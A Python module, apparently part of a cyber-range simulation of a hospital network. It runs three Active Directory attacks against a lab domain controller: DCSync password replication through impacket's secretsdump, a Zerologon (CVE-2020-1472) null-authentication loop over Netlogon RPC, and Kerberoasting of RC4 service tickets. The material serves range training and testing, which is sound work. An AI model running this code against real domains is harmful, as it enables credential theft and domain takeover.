"""What is done to a domain by who wants to own it: secrets replicated, the controller's log-in cheated, services' tickets collected."""

from __future__ import annotations

import sys
from contextlib import suppress
from datetime import datetime
from pathlib import Path

from act import Doing
from impacket.dcerpc.v5 import epm, nrpc, transport
from impacket.dcerpc.v5.rpcrt import DCERPCException
from lan import RangeError
from office import PASSWORD
from services.directory import ADMIN_PASSWORD, realm
from space import call
from state import Hospital

NULL = bytes(8)
FLAGS = 0x212FFFFF
"""What a controller of Windows Server 2008 R2 offers (MS-NRPC 3.1.4.2), without which AES is not used."""
CLERK = "zzclerk"


def replicate(secrets: str = "") -> Doing:
    """DCSync: a workplace asks for what controllers tell each other (MS-DRSR 4.1.10 DRSGetNCChanges), by impacket's secretsdump.

    `secrets`: of whom; of all when left out. What comes back is of invented accounts, and is dropped.
    """

    def doing(hospital: Hospital, moment: datetime) -> None:
        who = f"{realm(hospital).lower()}/Administrator:{ADMIN_PASSWORD}@{hospital.address('dc')}"
        told = _impacket("secretsdump.py", "-just-dc", *(["-just-dc-user", secrets] if secrets else []), who)
        if ":::" not in told:
            raise RangeError(f"nothing was replicated: {told[-200:]}")

    return doing


def zerologon(times: int) -> Doing:
    """Null challenges and null credentials, over and over (CVE-2020-1472, MS-NRPC 3.4.5.2); Samba of today refuses all."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        place = epm.hept_map(hospital.address("dc"), nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
        calls = transport.DCERPCTransportFactory(place).get_dce_rpc()
        calls.connect()
        calls.bind(nrpc.MSRPC_UUID_NRPC)
        for _ in range(times):
            nrpc.hNetrServerReqChallenge(calls, "DC\0", "DC\0", NULL)
            with suppress(DCERPCException):
                nrpc.hNetrServerAuthenticate3(calls, "DC\0", "DC$\0", CHANNEL, "DC\0", NULL, FLAGS)
        calls.disconnect()

    return doing


CHANNEL = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel


def collect_tickets(name: str = "") -> Doing:
    """Kerberoasting: tickets in RC4 for accounts that services run under (RFC 4757), found by LDAP. `name`: of one account only."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        who = f"{realm(hospital).lower()}/{CLERK}:{PASSWORD}-Zz1"
        one = ["-request-user", name] if name else ["-request"]
        told = _impacket("GetUserSPNs.py", who, "-dc-ip", hospital.address("dc"), *one)
        if "$krb5tgs$23$" not in told:
            raise RangeError(f"no ticket in RC4: {told[-300:]}")

    return doing


def _impacket(program: str, *words: str) -> str:
    return call([sys.executable, Path(sys.prefix) / "bin" / program, *words], env={"KRB5CCNAME": "FILE:/nonexistent"})
